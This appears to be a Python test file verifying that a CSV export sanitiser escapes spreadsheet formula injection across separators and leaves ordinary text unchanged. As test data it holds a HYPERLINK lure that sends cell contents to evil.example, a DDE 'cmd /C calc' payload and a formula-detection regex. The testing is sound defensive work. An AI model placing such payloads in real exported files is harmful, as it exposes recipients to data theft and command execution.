"""No cell of a table of ours is a formula, whichever separator a spreadsheet takes; and
ordinary texts stay as they are.
"""

import csv
import io
import re

import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from dpmf_core.runs.spreadsheets import harmless, harmless_row
from pages.kit.safe_text import to_csv

SEPARATORS = ",;\t| :"
FORMULA = re.compile(
    r"[\s\"\ufeff\u200b]*[=+\-@＝＋－＠](?![\d.,%\seE+-]*[)\]}>?,;:|])(?=.*[^\d.,%\s;:|eE+\"-])"
)
LURE = '=HYPERLINK("http://evil.example/?"&A1;"more")'


def cells(text: str, separator: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]


@pytest.mark.parametrize(
    "before",
    [
        "", "x;", "x\t", "x|", "x ", "x; ", 'x;"', "x\n", "x\r\n", "x,", "\ufeff", " ", "\x00;",
        "x；", "1;", "-1;",
    ],
)  # fmt: skip
@pytest.mark.parametrize(
    "lure",
    [LURE, "=1+cmd|' /C calc'!A0", "+A1", "-2+A1", "@SUM(A1)", "= HYPERLINK(A1)", "＝A1", "=-A1"],
)
def test_a_formula_is_none_wherever_it_stands(before: str, lure: str) -> None:
    if before in ("x ", " ") and lure[1] == " ":
        return  # split at blanks this is a lone sign
    text = to_csv(pd.DataFrame({f"{before}{lure}": [f"{before}{lure}"], "next": ["plain"]}))
    for separator in SEPARATORS:
        assert not [cell for cell in cells(text, separator) if FORMULA.match(cell)], (
            separator,
            text,
        )


@settings(max_examples=400, deadline=None, derandomize=True)
@given(
    st.text("aA1 =+-@;,\t|\"'\n(!.%e:~&＝\ufeff", max_size=12), st.text("a1=-;,\t \"'@", max_size=6)
)
@example("x;-1,=A", "")
def test_no_text_at_all_is_one(first: str, second: str) -> None:
    text = to_csv(pd.DataFrame({"one": [first], "two": [second]}))
    for separator in ",;\t|":
        assert not [cell for cell in cells(text, separator) if FORMULA.match(cell)], (
            separator,
            text,
        )
    for cell in (first, second):  # and where somebody splits the cell itself
        assert not [
            part for part in re.split(r"[;,|\t ]", harmless(cell)) if FORMULA.match(part)
        ], harmless(cell)


ORDINARY = (
    "Live and Let Die (1973)", "Rocky II - the second", "low-rank", "a, b; c",
    "ε = 2.00 (δ = 1e-05, per user, add/remove, exact)", "rank 4, steps 10", "-", "--", "-2",
    "+3.5 %", "-1e-05", "-1,5", "from -5 to +3", "1; -2; -3", "private (1e-6)", "me@example.org",
    "C++ & C", "a -> b", "x >= 1", "rank=4, epsilon=0.5", "'tis", "it's", "", "50% - 60%",
    "2026-11-22 10:00", "Grüße, 😀",
)  # fmt: skip


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_what_is_no_text_stays_and_a_row_is_marked_in_names_and_cells() -> None:
    assert harmless_row({"=a": "x;=b", "n": -1.5, "none": None, "flag": True}) == {
        "'=a": "x;'=b",
        "n": -1.5,
        "none": None,
        "flag": True,
    }
    assert harmless(harmless("x;=b")) == harmless("x;=b")
